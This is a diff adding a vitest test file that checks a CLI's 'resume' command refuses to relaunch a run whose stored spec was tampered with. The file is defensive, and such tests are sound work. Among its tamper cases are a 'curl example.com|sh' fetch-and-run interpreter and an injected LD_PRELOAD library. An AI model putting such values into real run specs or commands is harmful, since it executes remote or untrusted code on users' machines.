@@ -1,0 +1,92 @@
+import { mkdir, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { readBytes } from '@runctl/store';
+import { expect, test } from 'vitest';
+import { commandWorld, type CommandWorld } from '../testing/command-world.ts';
+
+const RESUME = ['resume', 'mine', '--yes', '--detach'];
+
+/** A run that has ended; the key of its spec. */
+async function stoppedRun(world: CommandWorld): Promise<string> {
+  await world.run(['launch', 'train.py', '--name', 'mine', '--yes', '--detach', '--env', 'A=1', '--', '--epochs', '3']);
+  await world.run(['stop', 'mine']);
+  return (await world.keys()).find((key) => key.endsWith('/spec.json')) ?? '';
+}
+
+/** What a machine of the run can do with its role. */
+async function change(world: CommandWorld, key: string, from: string | RegExp, to: string): Promise<void> {
+  const text = Buffer.from(await readBytes(world.store, key)).toString();
+  const changed = text.replace(from, to);
+  expect(changed).not.toBe(text);
+  await world.store.put(key, Buffer.from(changed));
+}
+
+test.each<[string, string | RegExp, string]>([
+  ['another interpreter', '"python3"', '"sh","-c","curl example.com|sh"'],
+  ['another script', '"script":"train.py"', '"script":"other.py"'],
+  ['another argument', '"--epochs"', '"--steps"'],
+  ['another value of a variable', '"A":"1"', '"A":"2"'],
+  ['one variable more', '"A":"1"', '"A":"1","LD_PRELOAD":"/tmp/x.so"'],
+  ['another archive', /"archiveKey":"[^"]+"/, '"archiveKey":"code/other.tar.gz"'],
+  ['another hash of the archive', /"archiveSha256":"[^"]+"/, `"archiveSha256":"${'0'.repeat(64)}"`],
+  ['another name of who launched it', '"me@laptop"', '"you@laptop"'],
+  ['a space more', /\}\n$/, '} \n'],
+  ['a longer grace', /"heartbeatMs":\d+/, '"heartbeatMs":9999999'],
+  ['what is no document', /^.*$/s, 'nothing'],
+])('a spec with %s than this computer launched is not launched again', async (_, from, to) => {
+  await using scope = await commandWorld({ 'train.py': '' });
+  const { world } = scope;
+  const key = await stoppedRun(world);
+  await change(world, key, from, to);
+  const refused = await world.run(RESUME);
+  expect(refused.stderr).toContain('error[not-as-launched]');
+  expect(refused.stderr).toContain('--accept-changed-spec');
+  expect(refused.exitCode).toBe(11);
+  expect(world.capacityStates()).toEqual(['ended']);
+  expect((await world.keys()).filter((other) => other.includes('/launches/0002/'))).toEqual([]);
+});
+
+test('a changed spec that is accepted is what this computer knows from then on', async () => {
+  await using scope = await commandWorld({ 'train.py': '' });
+  const { world } = scope;
+  const key = await stoppedRun(world);
+  await change(world, key, '"--epochs"', '"--steps"');
+  expect((await world.run([...RESUME, '--accept-changed-spec'])).exitCode).toBe(0);
+  await world.run(['stop', 'mine']);
+  expect((await world.run(RESUME)).exitCode).toBe(0);
+});
+
+test('another computer says that it can not know, and from then on holds the run to what it launched', async () => {
+  await using scope = await commandWorld({ 'train.py': '' });
+  const { world } = scope;
+  const key = await stoppedRun(world);
+  world.stateFolder = `${world.stateFolder}-of-another`;
+  const first = await world.run(RESUME);
+  expect(first.exitCode).toBe(0);
+  expect(first.stderr).toContain('this computer does not know what <run> was launched with');
+  await world.run(['stop', 'mine']);
+  const second = await world.run(RESUME);
+  expect([second.exitCode, second.stderr]).toEqual([0, expect.not.stringContaining('does not know')]);
+  await world.run(['stop', 'mine']);
+  await change(world, key, '"--epochs"', '"--steps"');
+  expect((await world.run(RESUME)).stderr).toContain('error[not-as-launched]');
+});
+
+test.each(['', 'nothing', '0'.repeat(63)])('where %j is kept, nothing is launched', async (kept) => {
+  await using scope = await commandWorld({ 'train.py': '' });
+  const { world } = scope;
+  const key = await stoppedRun(world);
+  await writeFile(join(world.stateFolder, 'launched', key.split('/')[1] ?? ''), kept);
+  expect((await world.run(RESUME)).stderr).toContain('error[config-invalid]');
+  expect(world.capacityStates()).toEqual(['ended']);
+  expect((await world.run([...RESUME, '--accept-changed-spec'])).exitCode).toBe(0);
+});
+
+test('a launch goes on where nothing can be kept', async () => {
+  await using scope = await commandWorld({ 'train.py': '' });
+  const { world } = scope;
+  await mkdir(join(world.stateFolder, '..'), { recursive: true });
+  await writeFile(world.stateFolder, 'a file');
+  await stoppedRun(world);
+  expect((await world.run(RESUME)).stderr).toContain('does not know');
+});
